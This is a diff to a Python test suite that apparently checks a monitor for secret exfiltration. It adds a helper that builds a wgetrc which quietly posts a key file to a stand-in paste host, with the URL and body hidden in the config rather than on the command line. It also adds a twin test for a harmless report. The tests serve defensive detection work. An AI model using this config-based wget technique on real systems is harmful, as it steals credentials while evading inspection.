@@ -285,17 +285,28 @@ def test_wget_taking_its_url_from_a_file(monitor, standin, fake_home, tmp_path):
     assert_no_secret(monitor, key)
 
 
-def test_wget_taking_url_and_body_from_its_config(monitor, standin, fake_home, tmp_path):
-    # A wgetrc holding the body (post_file) and the URL list (input): nothing on the line.
-    key = key_of(fake_home)
+def wgetrc_posting(tmp_path, body):
+    """A wgetrc holding the body (post_file) and the URL list (input): nothing on the line."""
     urls = tmp_path / "urls.txt"
     urls.write_text(f"https://{PASTE}:{HTTPS_PORT}/\n")
     rc = tmp_path / "wgetrc"
-    rc.write_text(f"check_certificate = off\npost_file = {key}\ninput = {urls}\n"
+    rc.write_text(f"check_certificate = off\npost_file = {body}\ninput = {urls}\n"
                   "output_document = /dev/null\nquiet = on\n")
+    return rc
+
+
+def test_wget_taking_url_and_body_from_its_config(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    rc = wgetrc_posting(tmp_path, key)
     dataflow_attack(monitor, standin, fake_home, tmp_path, "wget-config", f"wget --config={rc}",
                     hosts=WGET_HOSTS)
     assert_no_secret(monitor, key)
+
+
+def test_wget_config_posting_a_report_is_silent(monitor, standin, fake_home, tmp_path):
+    rc = wgetrc_posting(tmp_path, harmless_report(tmp_path))
+    silent_run(monitor, standin, fake_home, tmp_path, "wget-config-twin", f"wget --config={rc}",
+               hosts=WGET_HOSTS)
 
 
 def test_wget_url_file_posting_a_report_is_silent(monitor, standin, fake_home, tmp_path):
